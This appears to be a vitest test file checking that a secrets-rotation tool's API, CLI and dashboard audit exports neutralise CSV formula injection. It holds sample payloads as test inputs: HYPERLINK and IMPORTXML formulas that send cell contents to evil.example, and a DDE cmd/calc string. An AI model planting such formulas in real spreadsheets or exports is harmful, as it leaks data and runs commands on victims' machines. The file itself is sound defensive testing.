// CSV formula injection: audit exports (API, CLI, dashboard) neutralise every cell a spreadsheet
// would run as a formula (it starts with = + - @ TAB or CR) the OWASP way: a leading single quote,
// and the cell quoted. Hostile text enters through what callers control: the operator name, a
// rotation reason (notes) and details.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { appendAudit } from '../src/core/audit/audit-log.js';
import { csvField } from '../src/core/audit/audit-export.js';
import { createOperator } from '../src/core/operators/create-operator.js';
import { base32Decode, totpCode } from '../src/core/operators/totp.js';
import { cookieValue, csrfOf, form, FORM } from './dashboard-fixture.js';
import { ADMIN_ACTOR, createServerFixture, type ServerFixture } from './server-fixture.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

/** RFC 4180 parser: quoted fields, doubled quotes, CRLF row ends. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  return rows;
}

/** Every parsed cell: none may start like a formula; each hostile text comes back behind a quote. */
function expectNeutralised(csv: string): void {
  const rows = parseCsv(csv);
  const cells = rows.flat();
  for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
  for (const text of HOSTILE) {
    expect(cells).toContain(`'${text}`);
    // Quoted as well, so the quote and the text stay one cell in every reader.
    expect(csv).toContain(`"'${text.replace(/"/g, '""')}"`);
  }
  // Harmless cells are unchanged (no stray quote on ordinary values).
  expect(rows[0]).toEqual([
    'seq',
    'at',
    'secret',
    'environment',
    'operator',
    'method',
    'action',
    'outcome',
    'request_id',
    'notes',
    'details',
    'hash',
  ]);
  expect(cells).toContain('SESSION_SECRET');
}

describe('csvField', () => {
  test('prefixes and quotes each formula trigger, leaves other text alone', () => {
    expect(csvField('=1+1')).toBe(`"'=1+1"`);
    expect(csvField('+1')).toBe(`"'+1"`);
    expect(csvField('-1')).toBe(`"'-1"`);
    expect(csvField('@A1')).toBe(`"'@A1"`);
    expect(csvField('\tx')).toBe(`"'\tx"`);
    expect(csvField('\rx')).toBe(`"'\rx"`);
    expect(csvField('=A1&"x"')).toBe(`"'=A1&""x"""`);
    expect(csvField('a=1')).toBe('a=1');
    expect(csvField('rotate.verify')).toBe('rotate.verify');
    expect(csvField(42)).toBe('42');
    expect(csvField(null)).toBe('');
  });
});

describe('audit exports neutralise formula cells', () => {
  let f: ServerFixture;
  let totpSecret: Buffer;
  beforeAll(async () => {
    f = await createServerFixture();
    const store = await f.rotor.store();
    await store.writeTransaction(async (trx) => {
      for (const text of HOSTILE) {
        await appendAudit(
          trx,
          f.project.clock,
          { ...ADMIN_ACTOR, operator: text },
          {
            secret: 'SESSION_SECRET',
            environment: 'production',
            action: 'note',
            outcome: 'info',
            notes: text,
            details: { reason: text },
          },
        );
      }
    });
    totpSecret = base32Decode(
      (
        await createOperator(f.rotor, ADMIN_ACTOR, {
          name: 'csv-alice',
          password: 'correct horse battery staple',
        })
      ).totpSecret,
    );
  }, 60_000);
  afterAll(async () => {
    await f?.close();
  });

  test('GET /v1/audit/export?format=csv', async () => {
    const res = await f.call(f.tokens.auditor, {
      method: 'GET',
      url: '/v1/audit/export?format=csv',
    });
    expect(res.statusCode).toBe(200);
    expectNeutralised(res.body);
  });

  test('rotor audit export --format csv', async () => {
    const out = await f.project.cli(['audit', 'export', '--format', 'csv']);
    expect(out.code).toBe(0);
    expectNeutralised(out.stdout);
  });

  test('rotor rotate --reason with a formula is neutralised in the CLI export', async () => {
    const reason = '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")';
    const rotate = await f.project.cli([
      'rotate',
      'SESSION_SECRET',
      '--env',
      'staging',
      '--reason',
      reason,
    ]);
    expect(rotate.code).toBe(0);
    const out = await f.project.cli([
      'audit',
      'export',
      '--format',
      'csv',
      '--secret',
      'SESSION_SECRET',
    ]);
    expect(out.code).toBe(0);
    const cells = parseCsv(out.stdout).flat();
    expect(cells.some((c) => c.includes(reason))).toBe(true);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('the dashboard /dashboard/audit.csv', async () => {
    const page = await f.app.inject({ method: 'GET', url: '/dashboard/login' });
    const loginCookie = cookieValue(page, 'rotor_login')!;
    f.project.clock.advance(30_000);
    const login = await f.app.inject({
      method: 'POST',
      url: '/dashboard/login',
      headers: { ...FORM, cookie: `rotor_login=${loginCookie}` },
      payload: form({
        csrf: csrfOf(page.body),
        name: 'csv-alice',
        password: 'correct horse battery staple',
        code: totpCode(totpSecret, f.project.clock.now()),
      }),
    });
    const session = cookieValue(login, 'rotor_session');
    // A web session token: 32 random bytes, base64url.
    expect(session).toMatch(/^[A-Za-z0-9_-]{43}$/);
    const res = await f.app.inject({
      method: 'GET',
      url: '/dashboard/audit.csv',
      headers: { cookie: `rotor_session=${session}` },
    });
    expect(res.statusCode).toBe(200);
    expectNeutralised(res.body);
  });
});
